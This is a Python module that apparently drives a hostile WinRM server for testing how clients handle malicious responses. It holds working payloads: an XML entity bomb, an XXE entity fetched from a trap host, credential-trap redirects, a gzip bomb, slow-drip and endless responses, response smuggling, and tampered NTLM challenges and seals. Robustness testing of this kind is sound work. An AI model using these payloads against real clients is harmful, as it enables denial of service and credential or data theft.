"""What hostile WinRM listeners do. An act returns true if it has taken the place of the usual answer."""
import asyncio, base64, gzip, itertools, struct

import acts
from acts import card, close, noise, plain, reset, silent, write, zeros
from wire import Gone

OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/soap+xml;charset=UTF-8\r\n"


async def endless(server, start, piece):
    """Something, and then the same over and over."""
    await server.push(start)
    await acts.endless(server, piece)


async def drip(server, text="HTTP/1.1 200 OK\\r\\nx: "):
    """A byte every half second."""
    for byte in itertools.chain(plain(text), itertools.repeat(120)):
        await server.push(bytes([byte]))
        await asyncio.sleep(0.5)


# HTTP


async def headers(server):
    await endless(server, OK, b"X-Filler: all of them are read\r\n" * 1000)


async def header_line(server):
    await endless(server, OK + b"X-Filler: ", b"x" * 32000)


async def body(server, length="99999999999"):
    await endless(server, OK + b"Content-Length: %s\r\n\r\n" % length.encode(), b"<a>" * 10000)


async def body_open(server):
    """A body that ends with the connection, which does not end."""
    await endless(server, OK + b"Connection: close\r\n\r\n", b"<a>" * 10000)


async def chunks(server, size="8000"):
    piece = b"%x\r\n%s\r\n" % (int(size), b"x" * int(size))
    await endless(server, OK + b"Transfer-Encoding: chunked\r\n\r\n", piece * max(1, 30000 // len(piece)))


async def chunk_words(server):
    """A chunk's head that does not end."""
    await endless(server, OK + b"Transfer-Encoding: chunked\r\n\r\n5;", b"x=y;" * 8000)


async def trailers(server):
    await endless(server, OK + b"Transfer-Encoding: chunked\r\n\r\n0\r\n", b"X-Filler: and after the end\r\n" * 1000)


async def interim(server, status="100"):
    await endless(server, b"", b"HTTP/1.1 %s x\r\n\r\n" % status.encode() * 1000)


async def cut(server, length="5000"):
    """Less than was announced."""
    await server.push(OK + b"Content-Length: %s\r\n\r\n<s:Envelope" % length.encode())
    raise Gone


async def lengths(server):
    await server.push(OK + b"Content-Length: 5\r\nContent-Length: 50\r\n\r\nhello" + b"x" * 45)
    await silent(server)


async def status(server, code, text="", header="", times="1"):
    await server.reply(int(code), plain(text) * int(times), *([plain(header).decode("latin-1")] if header else []))
    return True


async def redirect(server, code, scheme="http"):
    """To where the credentials are waited for."""
    where = f"{scheme}://{server.trap}:{5986 if scheme == 'https' else 5985}/wsman"
    await server.reply(int(code), b"", f"Location: {where}")
    return True


async def redirect_loop(server, code):
    await server.reply(int(code), b"", "Location: /wsman")
    return True


async def packed(server, how="gzip"):
    """1 GiB of blanks in 1 MiB."""
    body = gzip.compress(bytes([32]) * (1 << 24), 9) * 64
    await server.reply(200, body, f"Content-Encoding: {how}")
    return True


async def kind(server, type):
    """The usual answer under another name."""
    xml = server.envelope(server.usual(server.asked))
    await server.reply(200, xml, type=plain(type).decode("latin-1"))
    return True


async def smuggle(server):
    """Two answers to one question, the second is for the next."""
    both = server.sealed(server.envelope(server.usual(server.asked)))
    await server.push(both + server.response(200, server.envelope("<rsp:Shell><rsp:ShellId>stolen</rsp:ShellId></rsp:Shell>")))
    return True


async def tls_fragments(server):
    """A handshake message of 16 MB, in records of a byte."""
    await endless(server, b"\x16\x03\x03\x00\x04\x02\xff\xff\xff", b"\x16\x03\x03\x00\x01x" * 5000)


async def tls_warnings(server):
    await endless(server, b"", b"\x15\x03\x03\x00\x02\x01\x5a" * 4000)


async def preface(server):
    """HTTP/2, unasked."""
    await server.push(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0]) * 10)
    await silent(server)


# NTLM


async def offers(server, *methods):
    """A login is wanted, with these methods."""
    await server.reply(401, b"", *[f"WWW-Authenticate: {plain(method).decode()}" for method in methods])
    return True


async def many_offers(server):
    await server.reply(401, b"", *["WWW-Authenticate: Negotiate " + "A" * 60] * 90)
    return True


async def token(server, text, times="1"):
    """A challenge that is none."""
    await server.negotiate(plain(text) * int(times))
    return True


async def token_text(server, text=""):
    await server.reply(401, b"", "WWW-Authenticate: Negotiate " + plain(text).decode("latin-1"))
    return True


async def spoil(server, place, value):
    """The challenge with other bytes at one place."""
    token = bytearray(server.offer)
    token[int(place) : int(place) + len(value) // 2] = bytes.fromhex(value)
    await server.negotiate(bytes(token))
    return True


async def large_target(server):
    """A target info of 64 KB in parts of no meaning."""
    token, info = bytearray(server.offer), (struct.pack("<HH", 99, 0) * 16000) + bytes(4)
    token[40:48] = struct.pack("<HHI", len(info), len(info), len(token))
    await server.negotiate(bytes(token) + info)
    return True


async def again(server):
    """After the proof another challenge, for ever."""
    await server.negotiate(server.offer)
    return True


async def accept_any(server):
    """Whoever comes is let in, without the password being known here: what is asked cannot be read."""
    server.known = True
    server.operation = lambda: server.reply(200, server.envelope(server.usual("create")))
    return True


# SOAP


async def xml(server, text="", times="1", after="", status="200"):
    await server.document(plain(text) * int(times) + plain(after) * int(times), int(status))
    return True


async def inside(server, text="", times="1", status="200"):
    """The usual envelope with another body."""
    await server.answer(plain(text).decode() * int(times), int(status))
    return True


async def bomb(server):
    """Entities of entities: 10^9 of them."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{entities}]>'
    await server.document(text.encode() + server.envelope("<rsp:Shell><rsp:ShellId>&l9;</rsp:ShellId></rsp:Shell>"))
    return True


async def outside(server, where):
    """An entity that is read from elsewhere."""
    text = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{where.replace("TRAP", server.trap)}">]>'
    await server.document(text.encode() + server.envelope("<rsp:Shell><rsp:ShellId>&e;</rsp:ShellId></rsp:Shell>"))
    return True


async def code(server, encoding):
    """The usual answer in another code, without a mark that says so."""
    await server.document(server.envelope(server.usual(server.asked)).decode().encode(encoding))
    return True


async def foreign(server):
    """The answer to somebody else's question."""
    await server.document(server.envelope(server.usual(server.asked), "uuid:00000000-0000-0000-0000-000000000000"))
    return True


async def fault(server, name, text="x", times="1", status="500"):
    reason = plain(text).decode("utf-8", "replace") * int(times)
    await server.answer(
        f"<s:Fault><s:Code><s:Value>s:Receiver</s:Value><s:Subcode><s:Value>{name}</s:Value></s:Subcode></s:Code>"
        f'<s:Reason><s:Text xml:lang="en-US">{reason}</s:Text></s:Reason>'
        f"<s:Detail><f:WSManFault><f:Message>{reason}</f:Message></f:WSManFault></s:Detail></s:Fault>", int(status))
    return True


async def clear(server):
    """The answer is not protected, although the question was."""
    await server.reply(200, server.envelope(server.usual(server.asked)))
    return True


async def seal(server, part):
    """The protection is not right in one part."""
    xml = server.envelope(server.usual(server.asked))
    data = {"length": lambda: server.sealed(xml, length=4_000_000_000), "short": lambda: server.sealed(xml, length=3)}
    answer = data[part]() if part in data else bytearray(server.sealed(xml))
    if part == "text":
        answer[-40] ^= 1
    await server.push(bytes(answer))
    return True


async def repeat(server):
    """The first answer is given to all questions, as it was sealed then."""
    if not hasattr(server, "kept"):
        server.kept = server.sealed(server.envelope(server.usual(server.asked)))
    server.case.stage = server.asked
    await server.push(server.kept)
    server.operation = lambda: server.push(server.kept)
    return True


async def nothing_yet(server, pause="0"):
    """The command runs and runs, without a word."""
    await asyncio.sleep(float(pause))
    await server.answer(server.output(b"", done=False))
    return True


async def talk(server, text="y", size="100000", name="stdout"):
    """Output without end."""
    piece = (plain(text) * int(size))[: int(size)]
    await card(len(piece) * 2)
    await server.answer(server.output(piece, done=False, name=name))
    return True


async def stream(server, text, times="1"):
    """Something else than base64 as output."""
    await server.answer(server.output(plain(text).decode("latin-1") * int(times)))
    return True


async def end(server, text="", output=""):
    """The end, with this instead of a code."""
    await server.answer(server.output(plain(output), end=plain(text).decode()))
    return True


async def said(server, text, times="1"):
    """Output of a command that was another one."""
    await server.answer(server.output(plain(text) * int(times)))
    return True


ALL = {name: act for name, act in globals().items() if asyncio.iscoroutinefunction(act)}
